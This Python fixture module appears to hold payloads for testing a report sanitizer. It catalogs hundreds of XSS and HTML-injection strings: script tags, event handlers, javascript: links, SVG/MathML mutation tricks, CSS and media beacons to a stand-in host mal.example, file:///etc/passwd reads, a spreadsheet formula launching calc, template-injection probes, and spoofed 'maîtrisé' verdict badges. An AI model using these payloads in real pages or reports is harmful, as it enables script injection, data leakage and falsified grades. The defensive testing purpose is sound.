"""What a notebook can put into a report to run a script, fetch something, cover a verdict or imitate one.

`JS` is what a payload runs, `MAL` a host that no report may ever speak to. Grouped by what carries the attack.
"""

import base64

# ruff: noqa: E501  (a payload is read in one piece)

JS = "top.__pwned=1"
MAL = "http://mal.example"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_SVG_SCRIPT = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script></svg>'

SCRIPTS = [
    f"<script>{JS}</script>",
    f"<SCRIPT/x>{JS}</SCRIPT>",
    f"<script src={MAL}/a.js></script>",
    f"<script type=module>{JS}</script>",
    f"<script type=module>import '{MAL}/m.js'</script>",
    f"<script src='data:text/javascript,{JS}'></script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<<script>{JS}//<</script>",
    f"<script\x0c>{JS}</script\x0c>",
    f"<script\n>{JS}</script\n bogus>",
    f"</pre></div></section></main></body></html><script>{JS}</script>",
    f"</code></pre><script>{JS}</script>",
    f"</style></title></head><script>{JS}</script>",
    f"<!--><script>{JS}</script-->",
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["' + MAL + '/spec"]}]}</script>',
    '<script type="importmap">{"imports":{"a":"' + MAL + '/map.js"}}</script>',
]

HANDLERS = [
    f"<img src=x onerror={JS}>",
    f"<img src=x oNeRrOr='{JS}'>",
    f"<img/src=x/onerror={JS}>",
    f"<img src=x onerror\n=\n{JS}>",
    f"<img src=x onerror&#61;{JS} onerror=&#116;op.__pwned=1>",
    f'<img src="x` `<script>{JS}</script>"` `>',
    f"<img src='data:image/png;base64,AA' onload={JS} onerror={JS}>",
    f"<body onload={JS} onpageshow={JS} onhashchange={JS} onresize={JS} onfocus={JS}>",
    f"<input autofocus onfocus={JS}>",
    f"<div tabindex=0 autofocus onfocus={JS} onfocusin={JS}>x</div>",
    f"<details open ontoggle={JS}><summary onclick={JS}>détails</summary></details>",
    f"<video onerror={JS} onloadstart={JS}><source src=x onerror={JS}></video>",
    f"<audio src=x onerror={JS}></audio>",
    f"<p onmouseover={JS} onpointerenter={JS} onwheel={JS} onclick={JS} oncontextmenu={JS}>survolez</p>",
    f"<marquee onstart={JS} onbounce={JS}>x</marquee>",
    f"<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={JS} onanimationend={JS}>x</b>",
    f"<div contenteditable onbeforeinput={JS} onpaste={JS} oncopy={JS} onkeydown={JS}>x</div>",
    f"<button popovertarget=pop onclick={JS}>x</button><div id=pop popover onbeforetoggle={JS}>x</div>",
    f"<span onscrollsnapchange={JS} oncontentvisibilityautostatechange={JS} style='content-visibility:auto'>x</span>",
    f'<a title="x" onclick="{JS}" href=#c1>x</a>',
    f'"><img src=x onerror={JS}><i x="',
    f"' onmouseover={JS} onfocus={JS} autofocus tabindex=1 x='",
    f"` onfocus={JS} autofocus x=`",
]

ADDRESSES = [
    f"<a href='javascript:{JS}'>x</a>",
    f"<a href='&#106;&#x61;vascript:{JS}'>x</a>",
    f"<a href=' \t\njavascript:{JS}'>x</a>",
    f"<a href='java\tscr\nipt:{JS}'>x</a>",
    f"<a href='jav&Tab;ascript&colon;{JS}'>x</a>",
    f"<a href='\x01javascript:{JS}'>x</a>",
    f"<a href='JaVaScRiPt:{JS}'>x</a>",
    f"<a href='javascript&#0058;{JS}'>x</a>",
    f"<a href='vbscript:{JS}'>x</a><a href='livescript:{JS}'>x</a><a href='mocha:{JS}'>x</a>",
    f"<a href='data:text/html,<script>{JS}</script>'>x</a>",
    f"<a href='data:text/html;base64,{_b64(f'<script>{JS}</script>')}'>x</a>",
    f"<a href='data:image/svg+xml;base64,{_b64(_SVG_SCRIPT)}'>x</a>",
    f"<a href='blob:{MAL}/x'>x</a><a href='filesystem:{MAL}/x'>x</a><a href='file:///etc/passwd'>x</a>",
    f"<a href='view-source:{MAL}'>x</a><a href='intent://x#Intent;end'>x</a><a href='ms-word:ofe|u|{MAL}'>x</a>",
    "<a href='//mal.example/x' target=_top>x</a><a href='\\\\mal.example\\x'>x</a>",
    f"<a ping='{MAL}/ping' href='#summary'>x</a>",
    "<a href='#x' download='verdict.exe'>x</a><a href='data:application/octet-stream,x' download>x</a>",
    f"<map name=m><area shape=default href='javascript:{JS}' ping={MAL}/p></map><img usemap=#m src=x>",
    "<a href='#crit-C1.1' id='crit-C1.1' name='crit-C1.1'>x</a>",
    "<a href='https://cnil.fr@mal.example/' title='rapport du jury'>le rapport du jury</a>",
]

SVG = [
    _SVG_SCRIPT,
    f"<svg><script href='data:text/javascript,{JS}' /></svg>",
    f"<svg><script xlink:href='{MAL}/s.js'></script></svg>",
    "<svg><script>&#116;op.__pwned=1</script></svg>",
    f"<svg/onload={JS}>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=onmouseover to={JS} /><a xlink:href='javascript:{JS}'><text y=20>x</text></a></svg>",
    f"<svg><a><animate attributeName=href values='javascript:{JS}' /><text y=20>x</text></a></svg>",
    f"<svg><a><set attributeName=xlink:href to='javascript:{JS}' /><rect width=50 height=50 /></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{JS}</script>'></iframe><body onload={JS}></foreignObject></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='{JS}'/></foreignObject></svg>",
    f"<svg><use href='{MAL}/u.svg#a' /><use href='data:image/svg+xml;base64,{_b64(_SVG_SCRIPT)}#a' /></svg>",
    f"<svg><image href='{MAL}/i.png' width=9 height=9 onerror={JS} /></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='{MAL}/xl.png' width='9' height='9'/></svg>",
    f"<svg><filter id=f><feImage href='{MAL}/fe.png' /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
    f"<svg><rect width=9 height=9 style='fill:url({MAL}/fill.svg#a)' fill='url({MAL}/f2.svg#a)' mask='url({MAL}/m.svg#a)' /></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><style>@import url({MAL}/s.css); * {{ background: url({MAL}/b.png) }}</style><rect/></svg>",
    f"<?xml-stylesheet href='{MAL}/x.xsl' type='text/xsl'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{MAL}/e'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>",
    f"<svg><title><style><img src=x onerror={JS}></style></title></svg>",
    f"<svg></p><style><g title='</style><img src=x onerror={JS}>'>",
    f"<svg><desc><noscript><p title='</noscript><img src=x onerror={JS}>'></desc></svg>",
    f"<svg><discard onbegin={JS} /><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{JS}</handler></svg>",
    f"<svg><cursor xlink:href='{MAL}/c.cur' /><font-face-uri xlink:href='{MAL}/f.woff' /><tref xlink:href='{MAL}/t' /></svg>",
]

_XML = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

# Well-formed, as a browser reads a picture.
PICTURES = [
    f"<svg {_XML}>{inner}</svg>"
    for inner in (
        f"<script>{JS}</script>",
        f"<script xlink:href='{MAL}/p.js'/>",
        f"<g onload='{JS}' onclick='{JS}'><rect width='9' height='9'/></g>",
        f"<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='{MAL}/fo.html'/></foreignObject>",
        f"<foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='{JS}'/></foreignObject>",
        f"<a xlink:href='javascript:{JS}'><text y='20'>x</text></a>",
        f"<image xlink:href='{MAL}/im.png' width='9' height='9'/><image href='{MAL}/im2.png' width='9' height='9'/>",
        f"<image href='x' onerror='{JS}' width='9' height='9'/>",
        f"<use xlink:href='{MAL}/use.svg#a'/><use href='data:image/svg+xml;base64,{_b64(_SVG_SCRIPT)}#a'/>",
        f"<style>@import url({MAL}/im.css);</style><style>rect {{ fill: url({MAL}/st.svg#a) }}</style><rect/>",
        f"<style>@font-face {{ font-family: z; src: url({MAL}/z.woff) }} text {{ font-family: z }}</style><text y='9'>z</text>",
        f"<rect width='9' height='9' style='background:url({MAL}/at.png)' fill='url({MAL}/at.svg#a)'/>",
        f"<filter id='f'><feImage xlink:href='{MAL}/fe2.png'/></filter><rect width='9' height='9' filter='url(#f)'/>",
        f"<animate attributeName='x' dur='0.01s' onbegin='{JS}' onend='{JS}'/><set attributeName='y' to='1' onbegin='{JS}'/>",
        f"<image width='9' height='9'><set attributeName='href' to='{MAL}/set.png'/></image>",
        f"<g xml:base='{MAL}/'><image xlink:href='base.png' width='9' height='9'/></g>",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{JS}</x:script><x:img xmlns:x='http://www.w3.org/1999/xhtml' src='{MAL}/ns.png'/>",
        f"<x:link xmlns:x='http://www.w3.org/1999/xhtml' rel='stylesheet' href='{MAL}/ns.css'/>",
        f"<desc><x:iframe xmlns:x='http://www.w3.org/1999/xhtml' src='{MAL}/desc.html'/></desc>",
    )
]

MATHML = [
    f"<math href='javascript:{JS}'><mtext>x</mtext></math>",
    f"<math><maction actiontype='statusline#{MAL}' xlink:href='javascript:{JS}'>x</maction></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={JS}></annotation-xml></math>",
    f"<math><annotation-xml encoding='application/xhtml+xml'><script>{JS}</script></annotation-xml></math>",
    f"<math><mi><mglyph src={MAL}/g.png></mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={JS}&gt;'>",
    f"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src=x onerror={JS}>'></style></mtext></svg></mglyph></option></mtext></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror={JS}>'></style></h1>",
    f"<math><semantics><annotation-xml encoding='image/svg+xml'><svg onload={JS}></svg></annotation-xml></semantics></math>",
]

MUTATION = [
    f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
    f"<template><p title='</template><img src=x onerror={JS}>'></template>",
    f"<template><script>{JS}</script><img src=x onerror={JS}></template>",
    f"<div><template shadowrootmode=open><img src=x onerror={JS}></template></div>",
    f"<title><p title='</title><img src=x onerror={JS}>'></title>",
    f"<textarea><p title='</textarea><img src=x onerror={JS}>'></textarea>",
    f"<style><p title='</style><img src=x onerror={JS}>'></style>",
    f"<xmp><p title='</xmp><img src=x onerror={JS}>'></xmp>",
    f"<iframe><p title='</iframe><img src=x onerror={JS}>'></iframe>",
    f"<noembed><p title='</noembed><img src=x onerror={JS}>'></noembed><noframes></noframes><img src=x onerror={JS}>",
    f"<select><option><style></option></select><img src=x onerror={JS}></style>",
    f"<select><template><img src=x onerror={JS}></template></select>",
    f"<table><caption><svg><style></caption></svg></style><img src=x onerror={JS}></table>",
    f"<table><tr><td><table><form><math></form></td></tr></table></math><img src=x onerror={JS}>",
    f"<a><b><table><a href=x></table><img src=x onerror={JS}></a>",
    f"<svg><p><style><!--</style><img title='--><img src=x onerror={JS}>'>",
    f"<plaintext><img src=x onerror={JS}>",
    f"<listing>&lt;img src=x onerror={JS}&gt;</listing><img src=x onerror={JS}>",
    f"<p id='</p><img src=x onerror={JS}>'>",
    f"<frameset onload={JS}><frame src='javascript:{JS}'></frameset>",
]

STYLES = [
    f"<style>@import url({MAL}/i.css);body{{background:url({MAL}/b.png)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({MAL}/f.woff)}}*{{font-family:x!important}}</style>",
    "<style>.badge{display:none!important}.badge::after{content:'maîtrisé'}</style>",
    f"<style>.not_met{{visibility:hidden}}h1::before{{content:url({MAL}/c.png)}}</style>",
    f"<div style='background:url({MAL}/d.png);position:fixed;inset:0;z-index:2147483647;background-color:#fff'>maîtrisé</div>",
    f"<div style='width:expression({JS});-moz-binding:url({MAL}/x.xml#x);behavior:url({MAL}/h.htc)'>x</div>",
    "<div style='position:absolute;top:-9999px;transform:translateY(-400px);margin-top:-4000px'>● maîtrisé</div>",
    f"<div style=\"background-image:\\75rl('{MAL}/esc.png')\">x</div>",
    f"<div style='background-image:image-set(\"{MAL}/is.png\" 1x);list-style:url({MAL}/l.png);cursor:url({MAL}/cu.cur),auto'>x</div>",
    f"<table background='{MAL}/t.png'><tr><td background='{MAL}/td.png' bgcolor=red>1</td></tr></table>",
    f"<body background={MAL}/bg.png text=white><font color=white size=7 face='x'>blanc</font>",
    f"<link rel=stylesheet href='{MAL}/l.css'><link rel=stylesheet href='data:text/css,*{{background:url({MAL}/ds.png)}}'>",
    f"<link rel=prefetch href='{MAL}/p'><link rel=preload as=image href='{MAL}/pl.png'><link rel=modulepreload href='{MAL}/mp.js'>",
    f"<link rel=preconnect href='{MAL}'><link rel=dns-prefetch href='{MAL}'><link rel=prerender href='{MAL}/pr'>",
    f"<link rel=icon href='{MAL}/icon.png'><link rel=manifest href='{MAL}/m.json'><link rel=import href='{MAL}/imp.html'>",
    "<dialog open style='position:fixed;inset:0'>Pré-score d'ensemble : maîtrisé</dialog>",
]

FRAMES = [
    f"<meta http-equiv=refresh content='0;url={MAL}/refresh'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><meta name=referrer content=unsafe-url>",
    "<meta http-equiv=set-cookie content='a=b'><meta charset=utf-7>",
    f"<base href='{MAL}/'><img src=base.png><a href=x target=_blank>x</a>",
    f"<iframe src='{MAL}/frame.html'></iframe>",
    f"<iframe src='javascript:{JS}'></iframe>",
    f"<iframe srcdoc='<script>{JS}</script>'></iframe>",
    f"<iframe srcdoc='&lt;img src=x onerror={JS}&gt;' sandbox='allow-scripts allow-same-origin'></iframe>",
    f"<iframe src='data:text/html,<script>{JS}</script>'></iframe>",
    f"<object data='{MAL}/o.html'></object><object data='data:text/html,<script>{JS}</script>'></object>",
    f"<object type='text/x-scriptlet' data='{MAL}/s'><param name=src value='{MAL}/p'></object>",
    f"<embed src='{MAL}/e.swf' allowscriptaccess=always><embed src='javascript:{JS}'>",
    f"<applet code=x archive={MAL}/a.jar></applet><bgsound src={MAL}/b.mp3><portal src={MAL}></portal><fencedframe></fencedframe>",
    f"<form action='{MAL}/f' method=post><input name=note value=maîtrisé><button>Valider</button></form>",
    f"<form id=fx></form><button form=fx formaction='javascript:{JS}' autofocus onfocus={JS}>x</button>",
    f"<input type=image src='{MAL}/in.png' formaction={MAL}><isindex action=javascript:{JS} type=image>",
    f"<keygen autofocus onfocus={JS}><select autofocus onfocus={JS}><textarea autofocus onfocus={JS}></textarea>",
]

MEDIA = [
    f"<img src='{MAL}/i.png'>",
    f"<img src='{MAL}/i.png' loading=lazy srcset='{MAL}/s.png 2x' sizes=9px lowsrc={MAL}/l dynsrc={MAL}/d longdesc={MAL}/ld>",
    f"<picture><source srcset='{MAL}/p.png'><img src='{MAL}/pi.png'></picture>",
    f"<video src='{MAL}/v.mp4' poster='{MAL}/po.png' autoplay muted></video>",
    f"<audio src='{MAL}/a.mp3' autoplay></audio><video><track default src='{MAL}/t.vtt' onerror={JS}></video>",
    "<img src='data:image/svg+xml;base64," + _b64(_SVG_SCRIPT) + "'>",
    f"<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22{MAL}/sv.png%22/></svg>'>",
    "<img src='file:///etc/passwd'><img src='//mal.example/pr.png'><img src='\\\\mal.example\\smb.png'>",
    f"<img src='{MAL}/dangling?",
    f"<a href='{MAL}/dangling?x=",
    f'<img alt="x" src=\'attachment:" onerror={JS} x="\'>',
]

CLOBBERING = [
    "<form id=documentElement><input name=body><input name=attributes></form>",
    "<a id=__pwned href=x></a><img name=cookie><form name=location action=x></form>",
    "<div id=summary class='badge met'><p id='crit-C1.1' class='cited'>● maîtrisé</p></div>",
    "<section id=jury aria-labelledby=jury-title><h2 id=jury-title>À trancher par le jury 0</h2></section>",
    "<h1 class=big id=summary-title>Pré-score d'ensemble <span class='badge met'><span class=shape></span>maîtrisé</span></h1>",
    "<p class=verdict role=alert aria-live=assertive>✓ maîtrisé, très sûr (99 %)</p>",
]

TEXTS = [
    "✓ maîtrisé — critère validé par le jury ● maîtrisé",
    "rapport\u202efdp.exe\u2066 non maîtrisé\u2069",
    "non\u200b\u00adma\u200dîtrisé\ufeff \u2028\u2029\u0085 x\U000e0041\U000e0042",
    "a" + "\u0310\u0341\u0489\u035f" * 60 + " débordement",
    "\x00\x07\x08\x1b[31mrouge\x1b[0m\x1b[2J\x1b]0;titre\x07\x9b31m",
    f"\x1b]8;;javascript:{JS}\x07lien\x1b]8;;\x07\x1b]52;c;ZWNobw==\x07",
    f"\x1b]8;;{MAL}/osc\x1b\\lien\x1b]8;;\x1b\\ \x1bP q\x1b\\ \x1b_x\x1b\\",
    f"\x1b[31;<img src=x onerror={JS}>m<b>\x1b[0m",
    f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
    f"\u00c0\u00bcscript\u00c0\u00be{JS} \ufe64script\ufe65{JS}\ufe64/script\ufe65 ＜script＞{JS}＜/script＞",
    f"&lt;script&gt;{JS}&lt;/script&gt; &#60;img src=x onerror={JS}&#62; &amp;lt;img src=x onerror={JS}&amp;gt;",
    f"<![CDATA[<img src=x onerror={JS}>]]><!--[if IE]><script>{JS}</script><![endif]-->",
    f"<!-- --!><img src=x onerror={JS}> --><? <img src=x onerror={JS}> ?><!ELEMENT x><%= {JS} %>",
    "{{ 7*7 }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}${7*7}#{7*7}{0.__class__}%(x)s",
    f'=HYPERLINK("{MAL}";"x")',
    "@SUM(1)\t=cmd|'/C calc'!A0",
    f"<b\x00 onmouseover={JS}>x</b><\x00script>{JS}</script>\ud800<img src=x onerror={JS}>",
]

LATEX = [
    f"$\\href{{javascript:{JS}}}{{x}}$ $\\url{{javascript:{JS}}}$",
    f'$$\\htmlData{{x="><img src=x onerror={JS}>}}{{y}}\\style{{background:url({MAL}/tex.png)}}{{z}}$$',
    f"$\\unicode{{<img src=x onerror={JS}>}}\\includegraphics{{{MAL}/g.png}}\\class{{badge met}}{{maîtrisé}}$",
    f"$<img src=x onerror={JS}>$ $$</div><script>{JS}</script>$$",
    f"\\begin{{x}}\\def\\x{{\\x\\x}}\\x</script><script>{JS}</script>\\end{{x}}",
]

MARKDOWN = [
    f"[x](javascript:{JS}) [y](<javascript:{JS}>) [z]( java&#115;cript:{JS})",
    f"[x](data:text/html;base64,{_b64(f'<script>{JS}</script>')})",
    f"[x](vbscript:{JS}) [y](file:///etc/passwd) [z](\x01javascript:{JS})",
    f"<javascript:{JS}> <data:text/html,x> <{MAL}/auto>",
    f'[x][r]\n\n[r]: javascript:{JS} "t"',
    f"[x]: {MAL}/a \"' onmouseover={JS} x='\"\n\n[x] ![x]",
    f'![x]({MAL}/i.png) ![y](//mal.example/i.png) ![z]({MAL}/z.png "t")',
    f'![x](x "onerror={JS}") !["onerror="{JS}](x) ![x]("onerror={JS})',
    f'![<img src=x onerror={JS}>]({MAL}/alt.png) ![x](data:image/png;base64,AA"onerror={JS})',
    f"![x](data:image/svg+xml;base64,{_b64(_SVG_SCRIPT)})",
    "![x](attachment:mal.png) ![y](attachment:mal.svg) ![z](attachment:../../etc/passwd)",
    f"[![x]({MAL}/in.png)](javascript:{JS})",
    f"# x {{#crit-C1.1 .badge onclick={JS}}}\n\n<a name=summary></a>\n\n[x](#crit-C1.1)",
    f"note[^1]\n\n[^1]: <img src=x onerror={JS}>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={JS}> | ` <script>{JS}</script> ` |",
    f"```<img src=x onerror={JS}>\n</code></pre><script>{JS}</script>\n```",
    f"    </code></pre><script>{JS}</script>",
    f"`<img src=x onerror={JS}>` \\<img src=x onerror={JS}> *<img src=x* onerror={JS}>",
    f"<div>\n\n[x](javascript:{JS})\n\n</div>\n<script>\n\n{JS}\n\n</script>",
    "<div class='k0123456789abcdef-1 cited' id='c1'>x</div>\n\n<p class=k>y</p>",
    "## Synthèse\n\nPré-score d'ensemble **● maîtrisé**\n\n| Compétence | Pré-score |\n|---|---|\n| C1 | ● maîtrisé |",
]

GROUPS = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "svg": SVG,
    "pictures": PICTURES,
    "mathml": MATHML,
    "mutation": MUTATION,
    "styles": STYLES,
    "frames": FRAMES,
    "media": MEDIA,
    "clobbering": CLOBBERING,
    "texts": TEXTS,
    "latex": LATEX,
    "markdown": MARKDOWN,
}
PAYLOADS = [payload for group in GROUPS.values() for payload in group]
